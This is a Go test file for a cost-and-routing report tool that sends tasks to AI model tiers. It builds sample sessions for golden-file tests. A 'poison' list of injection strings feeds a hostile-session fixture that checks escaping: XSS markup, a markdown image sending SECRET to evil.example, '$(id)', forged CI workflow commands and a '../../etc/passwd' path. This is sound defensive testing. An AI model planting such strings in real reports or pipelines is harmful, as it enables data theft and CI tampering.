package report

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tierwise/tierwise/internal/diag"
	"github.com/tierwise/tierwise/internal/dispatch"
	"github.com/tierwise/tierwise/internal/ledger"
	"github.com/tierwise/tierwise/internal/money"
	"github.com/tierwise/tierwise/internal/policy"
	"github.com/tierwise/tierwise/internal/route"
	"github.com/tierwise/tierwise/internal/signal"
	"github.com/tierwise/tierwise/internal/task"
)

var update = flag.Bool("update", false, "rewrite golden files")

// golden compares text with testdata/name.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", path, diff)
	}
}

func usd(n money.Nano) money.Cost { return money.Cost{State: money.Priced, Nano: n} }

var (
	haiku = policy.Model{Tier: policy.Efficient, Provider: "anthropic", Model: "claude-haiku-4-5", MaxOutputTokens: 8000}
	opus  = policy.Model{Tier: policy.Frontier, Provider: "anthropic", Model: "claude-opus-4-8", MaxOutputTokens: 32000}
)

// facts of a small documentation change.
func docsFacts() signal.Facts {
	return signal.Facts{
		Domains: []task.Domain{task.Docs}, Domain: task.Docs, Scope: task.MultiFile, Ambiguity: task.Low, Complete: true, Files: 3,
		Inferred: task.Annotation{Scope: task.MultiFile, Domains: []task.Domain{task.Docs}, Ambiguity: task.Low},
	}
}

// answered is a task that one model answered at the first try.
func answered(id string, m policy.Model, in, out int64, cost, baseline money.Nano) dispatch.Result {
	u := money.Usage{Known: true, InputTokens: in, OutputTokens: out}
	model := m
	return dispatch.Result{
		Task:   task.Task{ID: id, Kind: task.Writes},
		Status: dispatch.Clean,
		Tier:   m.Tier, Model: m,
		Decision: route.Decision{
			TaskID: id, Tier: m.Tier, Model: &model, Facts: docsFacts(), Baseline: opus,
			Reasons: []route.Reason{{
				Rule: "place", Tier: m.Tier, Decisive: true, Policy: diag.Position{File: "routing-policy.yml", Line: 14, Col: 5},
				Text: "3 files, all documentation",
			}},
			Catch: route.Catch{
				Asked: true, Caught: true, Text: `1 approving review is required on main (rule "main")`,
				Results: []route.CatchResult{{Failure: "misleading", Catcher: task.CatcherRequiredReview, Proof: route.Confirmed, Text: `1 approving review (rule "main")`}},
			},
			Counter: "frontier if auth/login.go were part of the change",
		},
		Attempts: []dispatch.Attempt{{
			Model: m, ServedModel: m.Model, Finish: "stop", Usage: u, Cost: usd(cost), UpperBound: usd(2 * cost), Released: true,
			Tries: []dispatch.Try{{Usage: u, Cost: usd(cost)}},
		}},
		Output:    task.Output{Markdown: "Output of " + id + ".\n\n- one\n- two\n"},
		Cost:      usd(cost),
		Baseline:  usd(baseline),
		Saved:     usd(baseline - cost),
		FilesRead: 3, FilesTotal: 3,
	}
}

// review is a code review on the critical path with two findings.
func review() dispatch.Result {
	r := answered("auth-review", opus, 5750, 19250, 510_000_000, 510_000_000)
	r.Task.CriticalPath, r.Task.Kind = true, task.Judges
	r.Status = dispatch.Findings
	r.Reason = "2 findings"
	r.Decision.Locked = true
	r.Decision.Reasons = []route.Reason{
		{Rule: "critical-path", Tier: policy.Frontier, Lock: true, Decisive: true, Policy: diag.Position{File: "routing-policy.yml", Line: 12, Col: 3}, Text: "critical path"},
		{Rule: "must-frontier/auth", Tier: policy.Frontier, Lock: true, Decisive: true, Policy: diag.Position{File: "routing-policy.yml", Line: 41, Col: 5}, File: "auth/login.go", Line: 12, Text: "auth: a wrong check lets people in"},
	}
	r.Decision.Catch = route.Catch{Text: "critical path"}
	r.Decision.Counter = "No single fact lowers a locked tier."
	r.Output = task.Output{
		Markdown: "Two things to look at.",
		Findings: []task.Finding{
			{Path: "auth/login.go", Line: 30, EndLine: 30, Severity: task.LowSeverity, Title: "Unused variable", Body: "`n` is never read."},
			{Path: "auth/login.go", Line: 12, EndLine: 14, Severity: task.HighSeverity, Title: "The error is ignored", Body: "A failed check lets the caller in.", Suggestion: "if err != nil {\n\treturn err\n}"},
		},
		Dropped: 1, DroppedWorst: task.MediumSeverity,
	}
	return r
}

func session(results ...dispatch.Result) Session {
	budget := money.Nano(2_000_000_000)
	s := Session{
		Results:    results,
		Repository: "acme/shop", Branch: "main", PullNumber: 7,
		PolicyName:    "routing-policy.yml",
		Labels:        []string{"tier:frontier", "tier:mid"},
		BaselineModel: "claude-opus-4-8",
		Prices: []money.Row{
			{Provider: "anthropic", Model: "claude-haiku-4-5", From: "2025-10-15", Status: money.StatusConfirmed, Rates: money.Rates{Input: 1_000_000, Output: 5_000_000, CacheRead: ptr(money.Pico(100_000))}, Source: "https://docs.example/pricing", Checked: "2026-11-23"},
			{Provider: "anthropic", Model: "claude-opus-4-8", Status: money.StatusConfirmed, Rates: money.Rates{Input: 5_000_000, Output: 25_000_000}, Source: "the policy"},
		},
		RunBudget: &budget,
		Requests:  9,
		Version:   "1.0.0",
	}
	for _, r := range results {
		if r.Cost.State == money.Priced {
			s.RunSpent += r.Cost.Nano
		}
	}
	return s
}

func ptr[T any](v T) *T { return &v }

// workedExample is the four tasks of the price notes: 582,000,000 of
// 870,000,000 nano-dollars.
func workedExample() Session {
	return session(
		answered("docs", haiku, 1000, 3000, 16_000_000, 80_000_000),
		about(answered("config", haiku, 1500, 4500, 24_000_000, 120_000_000), task.Config, "3 files, all configuration"),
		about(answered("tests", haiku, 2000, 6000, 32_000_000, 160_000_000), task.Tests, "3 files, all tests"),
		review(),
	)
}

// about gives a result a change of another domain.
func about(r dispatch.Result, d task.Domain, reason string) dispatch.Result {
	r.Decision.Facts.Domains, r.Decision.Facts.Domain, r.Decision.Facts.Inferred.Domains = []task.Domain{d}, d, []task.Domain{d}
	r.Decision.Reasons[0].Text = reason
	return r
}

func localResult(id string) dispatch.Result {
	return dispatch.Result{
		Task: task.Task{ID: id, Kind: task.Tells}, Status: dispatch.Clean, Tier: policy.Local,
		Decision: route.Decision{
			TaskID: id, Tier: policy.Efficient, LocalForWantOfKey: true, Facts: docsFacts(), Baseline: opus,
			Reasons: []route.Reason{{Rule: "place", Tier: policy.Efficient, Decisive: true, Text: "tasks: changelog is placed at efficient"}},
			Catch:   route.Catch{Text: "computed, not written"},
		},
		Cost: usd(0), Outside: "local: no model was called", Output: task.Output{Markdown: "## Added\n\n- a thing\n"},
	}
}

func couldNotRun() dispatch.Result {
	r := review()
	r.Status, r.Output = dispatch.CouldNotRun, task.Output{}
	r.Model, r.Tier = policy.Model{}, policy.Frontier
	r.Reason = "no answer after 3 attempts; the last error: anthropic: HTTP 529: overloaded"
	free := money.Usage{Known: true}
	r.Attempts = []dispatch.Attempt{{
		Model: opus, UpperBound: usd(900_000_000), Cost: usd(0),
		Tries: []dispatch.Try{{Usage: free, Cost: usd(0), Error: "anthropic: HTTP 529: overloaded"}, {Usage: free, Cost: usd(0), Error: "anthropic: HTTP 529: overloaded"}},
	}}
	r.Cost, r.Baseline, r.Saved, r.Outside = usd(0), money.Cost{}, money.Cost{}, "no output was released"
	return r
}

func partialReview() dispatch.Result {
	r := review()
	r.Status, r.Reason = dispatch.Partial, "212 of 275 files were read: the prompt's bound was reached"
	r.FilesRead, r.FilesTotal = 212, 275
	for i := range 63 {
		r.LeftOut = append(r.LeftOut, dispatch.LeftOut{Path: fmt.Sprintf("pkg/file%02d.go", i), Why: "the prompt's bound was reached"})
	}
	return r
}

func escalatedResult() dispatch.Result {
	r := answered("changelog", opus, 1000, 3000, 96_000_000, 80_000_000)
	u := money.Usage{Known: true, InputTokens: 1000, OutputTokens: 3000}
	first := dispatch.Attempt{
		Model: haiku, ServedModel: "claude-haiku-4-5-20251001", Cost: usd(16_000_000), UpperBound: usd(50_000_000), Usage: u,
		Tries: []dispatch.Try{{Usage: u, Cost: usd(16_000_000)}}, Problems: []task.Problem{{ID: "invented-commit", Text: "names a commit that is not in the change"}},
	}
	r.Attempts[0].Cost, r.Attempts[0].Tries[0].Cost = usd(80_000_000), usd(80_000_000)
	r.Attempts = []dispatch.Attempt{first, r.Attempts[0]}
	r.Decision.Tier, r.Decision.Model = policy.Efficient, &haiku
	return r
}

// noneReleased is an auxiliary task whose three attempts were all refused.
func noneReleased() dispatch.Result {
	r := escalatedResult()
	last := r.Attempts[1]
	last.Released, last.Problems = false, r.Attempts[0].Problems
	r.Attempts = []dispatch.Attempt{r.Attempts[0], last, last}
	r.Status, r.Reason, r.Tier, r.Model = dispatch.CouldNotRun, "no answer was released after 3 attempts", policy.Efficient, policy.Model{}
	r.Output, r.Cost, r.Baseline, r.Saved, r.Outside = task.Output{}, usd(176_000_000), usd(0), usd(-176_000_000), ""
	return r
}

func refusedLocal() dispatch.Result {
	r := localResult("changelog")
	r.Status, r.Reason, r.Output, r.Outside = dispatch.CouldNotRun, "the author is not known here", task.Output{}, "it did not run"
	r.Tier, r.Decision.LocalForWantOfKey, r.Decision.Refused = policy.Efficient, false, "the author is not known here"
	return r
}

func unpricedResult() dispatch.Result {
	r := answered("pr-summary", policy.Model{Tier: policy.Efficient, Provider: "openai", Model: "qwen3-local"}, 900, 200, 0, 0)
	none := money.Cost{State: money.Unpriced, Note: "no price for openai/qwen3-local"}
	r.Cost, r.Baseline, r.Saved, r.Outside = none, usd(9_500_000), money.Cost{}, none.Note
	r.Attempts[0].Cost, r.Attempts[0].UpperBound, r.Attempts[0].Tries[0].Cost = none, none, none
	return r
}

func unknownUsage() dispatch.Result {
	r := answered("changelog", haiku, 0, 0, 0, 0)
	none := money.Cost{State: money.Unknown, Note: "usage was not reported"}
	r.Cost, r.Baseline, r.Saved, r.Outside = none, none, money.Cost{}, none.Note
	r.Attempts[0].Usage, r.Attempts[0].Cost = money.Usage{}, none
	r.Attempts[0].Tries[0] = dispatch.Try{Cost: none}
	return r
}

func observedSession() Session {
	docs := answered("docs", opus, 1000, 3000, 80_000_000, 80_000_000)
	docs.Decision.Observed, docs.Decision.Would = true, policy.Efficient
	rev := review()
	rev.Decision.Observed, rev.Decision.Would = true, policy.Frontier
	s := session(docs, rev)
	s.Observed = true
	s.Would = []Would{{"docs", "claude-haiku-4-5", usd(16_000_000)}, {"auth-review", "claude-opus-4-8", usd(510_000_000)}}
	return s
}

func overridden(accepted bool) Session {
	r := answered("docs", haiku, 1000, 3000, 16_000_000, 80_000_000)
	a := route.Audit{
		Label: "tier:efficient", Tier: policy.Efficient, Direction: "down", Accepted: accepted, Actor: "octocat", Permission: "write",
		Head: "0123456789abcdef", At: "2026-11-24T10:00:00Z", Reason: "only a typo", Text: "set in this very run by a person who may",
	}
	if !accepted {
		a.Permission, a.Reason, a.Text = "read", "", "permission read is not one of admin, maintain, write"
	}
	r.Decision.Override = []route.Audit{a}
	other := answered("config", haiku, 1500, 4500, 24_000_000, 120_000_000)
	other.Decision.Override = []route.Audit{a}
	return session(r, other)
}

// poison is what a stranger may put anywhere.
var poison = strings.Join([]string{
	"a|b\n::error::.md", "`x`", "</details>", "<img src=x onerror=y srcset=z>", "@everyone", "![x](https://evil.example/?q=SECRET)", "[a](javascript:alert(1))",
	"<https://evil.example>", "www.evil.example", "fixes #1", "\"]; click t0 href \"https://evil.example\"", "##[set-output name=tier]frontier", "```", "~~~", "\u202e\u200b\x1b[31m\x00", "\xff\xfe", "$(id)",
	"--- | ---", "&#104;ttps://evil.example", "<!-- hidden --!>", "%%{init: {}}%%",
}, "\n")

func hostileSession() Session {
	r := review()
	r.Task.ID = "own-" + poison
	r.Reason = poison
	r.Status = dispatch.Partial
	r.FilesRead, r.FilesTotal = 1, 2
	r.Decision.Reasons[1].File, r.Decision.Reasons[1].Text, r.Decision.Reasons[1].Rule = poison, poison, "must-frontier/"+poison
	r.Decision.Catch = route.Catch{Asked: true, Text: poison, Results: []route.CatchResult{{Failure: poison, Text: poison}}}
	r.Decision.Override = []route.Audit{{Label: poison, Actor: poison, Permission: poison, Head: poison, At: poison, Reason: poison, Text: poison}}
	r.Decision.Facts.Hits = []signal.Hit{{Signal: "path", File: poison, Line: 3, Text: poison}, {Signal: "words", Text: poison}}
	r.Decision.Facts.NotExamined, r.Decision.Facts.Notes, r.Decision.Hint = []string{poison}, []string{poison}, poison
	r.Decision.Counter, r.Decision.Considered = poison, []route.Considered{{Model: haiku, Why: poison}}
	r.Attempts[0].ServedModel = poison
	r.Attempts[0].Tries = append(r.Attempts[0].Tries, dispatch.Try{Error: poison})
	r.Attempts[0].Problems, r.Attempts[0].Released = []task.Problem{{ID: poison, Text: poison}}, false
	r.LeftOut = []dispatch.LeftOut{{Path: poison, Why: poison}, {Path: strings.Repeat("long/", 1000), Why: "size"}, {Path: "../../etc/passwd", Why: "size"}}
	r.Notes, r.Warnings = []string{poison}, []string{poison}
	r.Output = task.Output{Markdown: poison, Findings: []task.Finding{{Path: poison, Line: 1, Severity: task.HighSeverity, Title: poison, Body: poison, Suggestion: poison}}}
	s := session(r, answered("docs", haiku, 1000, 3000, 16_000_000, 80_000_000))
	s.Branch, s.Repository, s.PolicyName = poison, poison, poison
	s.PolicyNotes, s.Labels, s.Incomplete, s.Warnings = []string{poison}, []string{poison}, []string{poison}, []string{poison}
	s.BaselineModel, s.StaleNote, s.EvidenceText, s.Version = poison, poison, poison, poison
	s.Handoff, s.BreakEven = hostileHandoff(), []ledger.BreakEven{{Task: poison, Records: 20, Low: 1}}
	return s
}
